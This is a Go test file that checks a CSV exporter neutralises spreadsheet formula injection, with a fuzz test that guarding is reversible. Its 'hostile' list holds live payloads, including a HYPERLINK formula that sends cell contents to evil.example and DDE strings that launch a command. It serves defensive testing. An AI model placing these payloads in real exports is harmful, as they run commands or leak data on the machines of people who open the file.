package table

import (
	"encoding/csv"
	"strings"
	"testing"
)

// hostile are texts that spreadsheets have been made to run.
var hostile = []string{
	`=HYPERLINK("http://evil.example?x="&A1,"more")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＠SUM(1)", "'=1+1", "|calc", "%0A=1+1", "\x00=1+1",
}

func TestNoCellOfACSVIsAFormula(t *testing.T) {
	for _, text := range hostile {
		tab := Table{Columns: []Column{{Name: "a"}, {Name: "b"}}}
		tab.Add("harmless", text)
		var out strings.Builder
		if err := tab.CSV(&out); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), mark))).ReadAll()
		if err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		cell := rows[1][1]
		if !strings.HasPrefix(cell, "'") {
			t.Errorf("%q is written as %q, which a spreadsheet runs", text, cell)
		}
		if got := Unguard(cell); got != text && got != strings.ReplaceAll(text, "\r", "") {
			t.Errorf("%q is read back as %q", text, got)
		}
	}
}

func TestOrdinaryTextStaysAsItIs(t *testing.T) {
	for _, text := range []string{"Art. 246a(1)", "до 3 године", "«κατοχή»", "1-3 years", "a=b", "5.5", "§ 4"} {
		if got := Guard(text); got != text {
			t.Errorf("Guard(%q) = %q, want it unchanged", text, got)
		}
		if got := Unguard(Guard(text)); got != text {
			t.Errorf("%q comes back as %q", text, got)
		}
	}
}

func TestNumbersAreNotGuarded(t *testing.T) {
	tab := Table{Columns: []Column{{Name: "n", Type: Number}}}
	tab.Add(-1.5)
	var out strings.Builder
	if err := tab.CSV(&out); err != nil {
		t.Fatal(err)
	}
	if want := mark + "n\r\n-1.5\r\n"; out.String() != want {
		t.Errorf("got %q, want %q", out.String(), want)
	}
}

func FuzzGuardIsUndoneByUnguard(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got := Unguard(Guard(s)); got != s {
			t.Errorf("%q comes back as %q", s, got)
		}
	})
}
